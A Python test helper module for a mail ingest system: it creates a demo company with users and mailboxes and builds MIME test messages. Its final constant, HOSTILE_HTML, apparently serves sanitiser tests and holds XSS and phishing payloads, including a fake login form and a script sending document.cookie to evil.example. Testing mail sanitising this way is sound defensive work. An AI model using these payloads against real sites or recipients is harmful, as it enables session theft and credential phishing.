"""Mail for the web tests, taken in through the real ingest path.

`mail_org()` sets up the company the mail tests use (as tests/mail/conftest.py does): own
domain demo-trading.com, alice and bob in Europe, carol in Asia (an outsider to
Europe's customers), an admin, and the mailboxes of alice, bob, carol and the shared
sales@. Test modules wrap it in a fixture of their own.
"""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from types import SimpleNamespace

from keyou.mail.ingest import IngestStats, mail_ingest
from keyou.mail.models import Mailbox, Message
from keyou.mail.services import mailbox_add
from keyou.mail.sources import RawItem
from keyou.people.services import organization_set, user_add

# A 1x1 PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
T0 = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)


def mail_org() -> SimpleNamespace:
    """Create and return the company: users alice, bob, carol, admin and their mailboxes."""
    organization_set(name="Demo Trading", domains=["demo-trading.com"], time_zone="Asia/Shanghai")
    alice = user_add(
        username="alice", email="alice@demo-trading.com", team="Europe", role="team_lead"
    )
    bob = user_add(username="bob", email="bob@demo-trading.com", team="Europe", role="team_lead")
    carol = user_add(username="carol", email="carol@demo-trading.com", team="Asia")
    admin = user_add(username="root", email="root@demo-trading.com", admin=True)
    boxes = SimpleNamespace(
        alice=mailbox_add(address="alice@demo-trading.com", owner="alice"),
        bob=mailbox_add(address="bob@demo-trading.com", owner="bob"),
        carol=mailbox_add(address="carol@demo-trading.com", owner="carol"),
        sales=mailbox_add(address="sales@demo-trading.com", kind="shared"),
    )
    return SimpleNamespace(alice=alice, bob=bob, carol=carol, admin=admin, boxes=boxes)


def ingest(mailbox: Mailbox, *raws: bytes, folder: str = "INBOX") -> IngestStats:
    """File RAWS as seen in MAILBOX/FOLDER through the real ingest path."""
    items = [RawItem(source=f"test:{folder}:{n}", raw=raw) for n, raw in enumerate(raws)]
    return mail_ingest(mailbox=mailbox, items=items, folder=folder)


def message(message_id: str) -> Message:
    """Return the stored message with Message-ID MESSAGE_ID (without angle brackets)."""
    return Message.objects.get(message_id=message_id.strip("<>"))


def mime(
    *,
    sender: str = "Hans Buyer <hans@acme-industrial.de>",
    to: str = "alice@demo-trading.com",
    cc: str = "",
    subject: str = "Quotation request",
    text: str | None = "Please send your price list.",
    html: str | None = None,
    message_id: str = "<q1@acme-industrial.de>",
    in_reply_to: str = "",
    date: datetime = T0,
    inline_images: tuple[tuple[str, str, bytes], ...] = (),  # (content id, type, bytes)
    attachments: tuple[tuple[str, str, bytes], ...] = (),  # (filename, type, bytes)
) -> bytes:
    """Return the bytes of a MIME message with the given parts, as a mail client sends it."""
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    if cc:
        msg["Cc"] = cc
    msg["Subject"] = subject
    msg["Date"] = format_datetime(date)
    msg["Message-ID"] = message_id
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
        msg["References"] = in_reply_to
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
        html_part = msg if text is None else msg.get_payload()[-1]
        for content_id, ctype, data in inline_images:
            maintype, subtype = ctype.split("/")
            html_part.add_related(
                data, maintype, subtype, cid=f"<{content_id}>", disposition="inline"
            )
    for filename, ctype, data in attachments:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype, subtype, filename=filename)
    return msg.as_bytes()


HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/phish">
<script>alert("head")</script></head>
<body onload="steal()">
<p>Dear partner, <a href="javascript:alert(1)">confirm here</a>.</p>
<img src="http://evil.example/x.png" width="1" height="1">
<img src="x" onerror="alert(2)">
<form action="http://evil.example/login" method="post"><input name="password"></form>
<iframe src="http://evil.example/frame"></iframe>
<p>Total: USD 1,200</p>
<script>document.location="http://evil.example/"+document.cookie</script>
</body></html>"""
